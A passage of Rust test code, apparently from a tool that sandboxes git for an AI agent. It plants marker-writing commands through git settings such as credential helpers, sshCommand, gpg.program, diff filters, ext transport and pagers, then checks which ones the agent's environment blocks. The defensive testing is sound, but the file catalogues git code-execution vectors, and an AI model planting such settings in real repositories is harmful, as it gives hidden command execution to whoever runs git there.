            ..Planted::new(
                "credential-helper",
                &[("credential.helper", &r.plant("credential-helper"))],
                &["credential", "fill"],
            )
        },
        Planted {
            input: fill,
            ..Planted::new(
                "askpass",
                &[("core.askPass", &r.plant("askpass"))],
                &["credential", "fill"],
            )
        },
        Planted::new(
            "ssh",
            &[("core.sshCommand", &r.plant("ssh"))],
            &["ls-remote", "ssh://127.0.0.1:9/nothing"],
        ),
        Planted::new(
            "git-proxy",
            &[("core.gitProxy", &r.plant("git-proxy"))],
            &["ls-remote", "git://127.0.0.1:9/nothing"],
        ),
        Planted::new(
            "gpg-commit",
            &[("commit.gpgSign", "true"), ("gpg.program", &r.plant("gpg-commit"))],
            &["commit", "-q", "--allow-empty", "-m", "x"],
        ),
        Planted::new(
            "gpg-tag",
            &[("tag.gpgSign", "true"), ("gpg.program", &r.plant("gpg-tag"))],
            &["tag", "-a", "-m", "x", "planted-tag"],
        ),
        Planted::new(
            "gpg-log",
            &[("log.showSignature", "true"), ("gpg.program", &r.plant("gpg-log"))],
            &["log", "-1", &signed],
        ),
        // git filters the hunks only in colour, which a planted setting turns on.
        Planted {
            input: Some("n\n"),
            ..Planted::new(
                "diff-filter",
                &[
                    ("color.ui", "always"),
                    ("interactive.diffFilter", &r.plant("diff-filter")),
                ],
                &["add", "-p"],
            )
        },
        Planted::new("ext", &[("protocol.ext.allow", "always")], &["ls-remote", &ext_url]),
    ];
    for case in cases {
        let marker = case.marker.as_str();
        let command: Vec<&str> = case.command.iter().map(String::as_str).collect();
        for (key, value) in &case.settings {
            r.git(&wt, &["config", key, value]);
        }
        assert!(r.marks(marker, &wt, &command, &[], case.input), "{marker}: git runs it");
        assert!(
            !r.marks(marker, &wt, &command, &agent_env(), case.input),
            "{marker}: not with the agent's environment"
        );
        for (key, _) in &case.settings {
            r.git(&wt, &["config", "--unset-all", key]);
        }
    }
}

/// A command planted in the configuration: the marker it writes, the settings that plant
/// it, the git command an agent runs that would run it, and that command's input.
struct Planted {
    marker: String,
    settings: Vec<(String, String)>,
    command: Vec<String>,
    input: Option<&'static str>,
}

impl Planted {
    fn new(marker: &str, settings: &[(&str, &str)], command: &[&str]) -> Planted {
        Planted {
            marker: marker.to_owned(),
            settings: settings
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            command: command.iter().map(|part| (*part).to_owned()).collect(),
            input: None,
        }
    }
}

#[test]
fn filters_textconv_and_an_external_diff_still_run() {
    let r = Repo::new();
    let wt = r.wt("a");
    r.git(&wt, &["config", "filter.planted.clean", &r.plant("clean")]);
    r.git(&wt, &["config", "diff.planted.textconv", &r.plant("textconv")]);
    write(
        &r.common().join("info/attributes"),
        "*.txt filter=planted diff=planted\n",
    );
    fs::write(wt.join("a.txt"), "changed\n").expect("write");
    assert!(r.marks("clean", &wt, &["add", "a.txt"], &agent_env(), None));
    assert!(r.marks("textconv", &wt, &["diff", "--cached"], &agent_env(), None));

    fs::remove_file(r.common().join("info/attributes")).expect("remove attributes");
    r.git(&wt, &["config", "diff.external", &r.plant("external-diff")]);
    assert!(r.marks("external-diff", &wt, &["diff", "--cached"], &agent_env(), None));
}

#[test]
fn a_pager_never_runs_into_a_pipe() {
    let r = Repo::new();
    let wt = r.wt("a");
    r.git(&wt, &["config", "core.pager", &r.plant("pager")]);
    r.git(&wt, &["config", "pager.log", &r.plant("log-pager")]);
    for env in [vec![], agent_env()] {
        assert!(!r.marks("pager", &wt, &["-p", "log", "-1"], &env, None));
        assert!(!r.marks("log-pager", &wt, &["log", "-1"], &env, None));
    }
}

#[test]
fn settings_given_before_are_kept_and_the_agents_come_after() {
    let r = Repo::new();
    let wt = r.wt("a");
    r.git(&wt, &["config", "gc.auto", "1"]);
    r.git(&wt, &["config", "maintenance.auto", "true"]);
    let before = BTreeMap::from([
        ("GIT_CONFIG_COUNT".to_owned(), "2".to_owned()),
        ("GIT_PROXY_COMMAND".to_owned(), "the user's".to_owned()),
    ]);
    let env = agent_git_env(None, &before);
    assert_eq!(env[0], ("GIT_CONFIG_KEY_2".to_owned(), "core.hooksPath".to_owned()));
    assert!(!env.iter().any(|(name, _)| name == "GIT_PROXY_COMMAND"));
    let mut all: Vec<(String, String)> = vec![
        ("GIT_CONFIG_KEY_0".into(), "user.name".into()),
        ("GIT_CONFIG_VALUE_0".into(), "someone".into()),
        ("GIT_CONFIG_KEY_1".into(), "core.fsmonitor".into()),
        ("GIT_CONFIG_VALUE_1".into(), "true".into()),
    ];
    all.extend(env);
    let get = |key: &str| {
        let output = r.run(&wt, &["config", "--get", key], &all, None);
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    };
    assert_eq!(get("user.name"), "someone");
    assert_eq!(get("core.fsmonitor"), "false");
    assert_eq!(get("core.hooksPath"), "/dev/null");
    assert_eq!(get("gc.auto"), "0");
    assert_eq!(get("maintenance.auto"), "false");
}
